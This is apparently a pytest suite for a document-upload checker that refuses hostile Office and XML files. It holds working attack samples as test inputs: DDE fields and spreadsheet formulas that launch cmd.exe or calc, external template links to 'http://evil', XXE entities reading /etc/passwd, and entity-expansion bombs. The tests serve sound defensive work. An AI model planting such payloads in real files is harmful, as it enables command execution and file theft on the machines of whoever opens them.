"""Office files that attack whoever opens them, and those that only look as if they did."""

from __future__ import annotations

import random
import resource
import struct
import time
import zlib
from dataclasses import replace

import pytest

from service.kernel import errors
from service.materials.rules import examine
from service.materials.rules.office_reader import read
from tests.materials.files import XLSX_MAIN, docx, package, set_in_entry, types, xlsx
from tests.materials.handing_in import LIMITS

pytestmark = pytest.mark.usefixtures("read_apart")

OLD_HEAD = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MICROSOFT = "http://schemas.microsoft.com/office/2006/relationships"


def code_of(content, name="a.docx", limits=LIMITS):
    try:
        examined = examine(name, content, limits)
    except errors.Problem as problem:
        return problem.code
    assert examined.content == content, "an office file is kept as it is"
    return None


def related(kind, target, mode="", *, of=OFFICE, part="word/_rels/document.xml.rels"):
    mode = f' TargetMode="{mode}"' if mode else ""
    return docx(
        {
            part: '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas'
            '.openxmlformats.org/package/2006/relationships"><Relationship Id="r1"'
            f' Type="{of}/{kind}" Target="{target}"{mode}/></Relationships>'
        }
    )


@pytest.mark.parametrize(
    "content",
    [
        related("attachedTemplate", "http://evil/x.dotm", "External"),
        related("attachedTemplate", "file://evil/x.dotm", "external", part="word/_rels/s.xml.rels"),
        related("attachedTemplate", "http://evil/x", "External", part="WORD/_rels/settings.RELS"),
        related("image", "http://evil/x.png", "External"),
        related("frame", "http://evil/x", "External"),
        related("externalLinkPath", "file:///c:/x.xlsx", "External"),
    ],
)
def test_what_is_fetched_from_elsewhere_is_refused(content):
    assert code_of(content) == "file_links_outside"


@pytest.mark.parametrize("kind", ["oleObject", "package", "aFChunk", "subDocument"])
@pytest.mark.parametrize("mode", ["", "External"])
def test_files_in_files_are_refused(kind, mode):
    assert code_of(related(kind, "embeddings/x.bin", mode)) == "file_carries_files"


@pytest.mark.parametrize(
    "kind", ["vbaProject", "VBAPROJECT", "wordVbaData", "activeXControlBinary"]
)
def test_macros_are_seen_by_what_they_are_not_by_their_names(kind):
    assert code_of(related(kind, "harmless.bin", of=MICROSOFT)) == "file_has_macros"
    assert code_of(related("control", "harmless.bin")) == "file_has_macros"


def test_a_link_that_somebody_may_click_on_is_taken():
    assert code_of(related("hyperlink", "https://www.gov.cn", "External")) is None


def instructed(*runs):
    texts = "".join(f"<w:r><w:instrText>{run}</w:instrText></w:r>" for run in runs)
    return docx({"word/header1.xml": f"<w:hdr>{texts}</w:hdr>"})


@pytest.mark.parametrize(
    "content",
    [
        instructed("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe"),
        instructed(" dde excel x"),
        instructed("DD", "EAUTO", " cmd"),
        instructed("&#68;DE cmd"),
        docx({"word/footer1.xml": '<w:ftr><w:fldSimple w:instr=" DDE cmd "/></w:ftr>'}),
        docx({"word/x.xml": "<x:a><x:instrText>DDE x</x:instrText></x:a>"}),
        docx({"word/x.xml": "<é:a><é:instrText>DD<!-- -->E x</é:instrText></é:a>"}),
        instructed("<![CDATA[D]]>", "DE x"),
    ],
)
def test_a_field_that_starts_a_program_is_refused(content):
    assert code_of(content) == "file_does_something"


def calculated(formula):
    return xlsx({"xl/worksheets/sheet2.xml": f"<worksheet><c><f>{formula}</f></c></worksheet>"})


@pytest.mark.parametrize(
    "content",
    [
        calculated("cmd|'/C calc'!A0"),
        calculated("MSEXCEL|'\\..\\cmd.exe /c calc'!A0"),
        calculated("&quot;a&quot;&amp;cmd|'/C calc'!A0"),
        calculated("cmd&#124;'/C calc'!A0"),
        xlsx({"xl/externalLinks/externalLink1.xml": "<a><ddeLink ddeService='cmd'/></a>"}),
        xlsx({"xl/externalLinks/externalLink1.xml": "<x:a><x:oleLink progId='x'/></x:a>"}),
        xlsx({"xl/externalLinks/externalLink1.xml": "<é:a><é:ddeLink/></é:a>"}),
        calculated("<![CDATA[cmd|'/C calc'!A0]]>"),
        calculated("cmd<!-- x -->|'/C calc'!A0"),
        calculated("cmd&#" + "0" * 5000 + "124;'/C calc'!A0"),
        calculated("cmd|<x/>'/C calc'!A0"),
        calculated("cmd|["),
        calculated("[cmd|'/C calc'!A0"),
        calculated("'cmd|/C calc"),
        xlsx({"xl/worksheets/sheet2.xml": "<é:w><é:f>cmd|'/C calc'!A0</é:f></é:w>"}),
        xlsx({"xl/workbook.xml": "<w><definedName name='a'>cmd|'/C calc'!A0</definedName></w>"}),
        xlsx({"xl/worksheets/sheet2.xml": "<w><formula1>cmd|'/C calc'!A0</formula1></w>"}),
        xlsx(
            {
                "xl/tables/table1.xml": "<w><calculatedColumnFormula>cmd|x!A0"
                "</calculatedColumnFormula></w>"
            }
        ),
    ],
)
def test_a_formula_that_starts_a_program_is_refused(content):
    assert code_of(content, "a.xlsx") == "file_does_something"


@pytest.mark.parametrize(
    "content",
    [
        calculated("SUM(A1:A9)"),
        calculated("IF(A1=&quot;|&quot;,Sheet2!A1,'a|b'!A1)"),
        calculated("SUM(Table1[[#This Row],[a|b]])+'it''s|'!A1&amp;&quot;&quot;"),
        xlsx({"xl/worksheets/sheet2.xml": "<worksheet><v>a|b</v></worksheet>"}),
        xlsx({"xl/drawings/drawing1.xml": "<m:f><m:num><m:t>|x|</m:t></m:num></m:f>"}),
    ],
)
def test_a_bar_that_is_text_is_taken(content):
    assert code_of(content, "a.xlsx") is None


def test_words_that_are_no_instruction_are_taken():
    assert code_of(docx({"word/a.xml": "<w:t>DDE is old; see instrText</w:t>"})) is None
    assert code_of(instructed("PAGE", " \\* MERGEFORMAT ", "ADDED")) is None


def listed_as(kind, content):
    """A part whose name does not say that it is XML; the list of types does."""
    listed = f'<Override PartName="/xl/worksheets/sheet2.bin" ContentType="{kind}"/>'
    return package(
        {
            "[Content_Types].xml": types(XLSX_MAIN, listed),
            "_rels/.rels": "<Relationships/>",
            "XL/worksheets/Sheet2.BIN": content,
        }
    )


def test_what_is_xml_is_said_by_the_list_of_types_too():
    sheet = "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"
    formula = "<worksheet><f>cmd|x!A0</f></worksheet>"
    assert code_of(listed_as(sheet, formula), "a.xlsx") == "file_does_something"
    assert code_of(listed_as(sheet, "<!DOCTYPE a><a/>"), "a.xlsx") == "file_broken"
    assert code_of(listed_as("image/svg+xml", "<!DOCTYPE svg><svg/>"), "a.xlsx") is None
    assert code_of(listed_as("application/octet-stream", b"\0\1"), "a.xlsx") is None


@pytest.mark.parametrize(
    "part",
    [
        "<worksheet><f>|" + "[" * 1_000_000 + "</f></worksheet>",
        "<worksheet><f>|" + "'" * 1_000_001 + "</f></worksheet>",
        "<worksheet>" + "<f>1</f>" * 200_000 + "</worksheet>",
        "<a>" * 100_000 + "</a>" * 100_000,
        "<a " + " ".join(f"b{n}='{n}'" for n in range(100_000)) + "/>",
    ],
    ids=["brackets", "quotes", "formulas", "depth", "attributes"],
)
def test_time_grows_with_a_part_and_no_faster(part):
    content = package(
        {
            "[Content_Types].xml": types(XLSX_MAIN),
            "_rels/.rels": "<Relationships/>",
            "xl/worksheets/sheet1.xml": part,
            "xl/media/image1.png": random.Random(5).randbytes(len(part) // 200),
        }
    )
    began = time.process_time()
    code = read(content, 2**26)
    assert code == ("file_does_something" if "|" in part else "")
    assert time.process_time() - began < 2


@pytest.mark.parametrize("name", ["xl/_rels/x.rels", "xl/worksheets/sheet2.xml"])
def test_what_takes_all_memory_takes_that_of_the_reader_alone(name):
    """Forty million bytes that open element within element, as often as it goes."""
    chance = random.Random(5)
    some = b"".join(b"<a b='%x' c='' d=''>" % chance.getrandbits(32) for _ in range(1_000))
    part = some * 1_200 + b"</a>" * 1_200_000
    content = xlsx({name: part})
    limits = replace(LIMITS, unpacked=2**28, size=2**24)
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    assert code_of(content, "a.xlsx", limits) in {None, "file_too_complicated"}
    grown = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before
    assert grown < 64 * 1024, "kilobytes"


LAUGHS = '<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><a>&b;</a>'


@pytest.mark.parametrize(
    "part",
    [
        '<!DOCTYPE a SYSTEM "http://evil/x.dtd"><a/>',
        '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
        LAUGHS,
        '<?xml version="1.0"?><!-- x --><!DOCTYPE a><a/>',
        "<a><b></a>",
        "<a/>x",
        "",
        "<a>".encode("utf-16"),
        '<?xml version="1.0" encoding="cp037"?><a/>'.encode("cp037"),
        b'<?xml version="1.0" encoding="gb18030"?><a/>',
        b'<?xml version="1.0" encoding="utf-7"?><a/>',
        b"<a>\xff</a>",
    ],
)
@pytest.mark.parametrize("name", ["word/document.xml", "word/_rels/x.xml.rels", "customXml/i.XML"])
def test_a_part_that_declares_or_hides_something_is_refused(part, name):
    assert code_of(docx({name: part})) == "file_broken"


@pytest.mark.parametrize("claimed", [10, 2_000])
def test_a_part_is_as_long_as_the_directory_says(claimed):
    """A part of fifty million bytes says that it has less; nothing beyond that is unpacked."""
    large = docx({"word/media/a.bin": b"\0" * 10_000_000})
    lied = set_in_entry(large, 24, struct.pack("<I", claimed), entry=4)
    began = time.perf_counter()
    assert code_of(lied, limits=replace(LIMITS, size=2**24)) == "file_broken"
    assert time.perf_counter() - began < 1


def test_a_part_has_the_check_sum_that_the_directory_says():
    other = struct.pack("<I", zlib.crc32(b"other"))
    assert code_of(set_in_entry(docx(), 16, other, entry=2)) == "file_broken"


def test_what_office_encrypts_is_refused_as_encrypted():
    """MS-OFFCRYPTO: the package lies in a stream of a file of the old format."""
    content = OLD_HEAD + b"\0" * 600 + "EncryptedPackage".encode("utf-16-le") + b"\0" * 100
    assert code_of(content) == "file_encrypted"
    assert code_of(content, "a.xlsx") == "file_encrypted"


@pytest.mark.parametrize("name", ["a.doc", "a.docx", "a.xls", "a.pdf"])
def test_old_office_files_are_refused_with_what_to_do(name):
    assert code_of(OLD_HEAD + b"\0" * 600, name) == "file_type_old"


@pytest.mark.parametrize("name", ["IMG_0001.HEIC", "IMG_0001.jpg", "a.pdf"])
@pytest.mark.parametrize("brand", [b"heic", b"heix", b"mif1", b"msf1", b"hevc"])
def test_photographs_of_iphones_are_refused_with_what_to_do(brand, name):
    content = b"\0\0\0\x18ftyp" + brand + b"\0\0\0\0mif1heic" + b"\0" * 100
    assert code_of(content, name) == "file_type_heic"
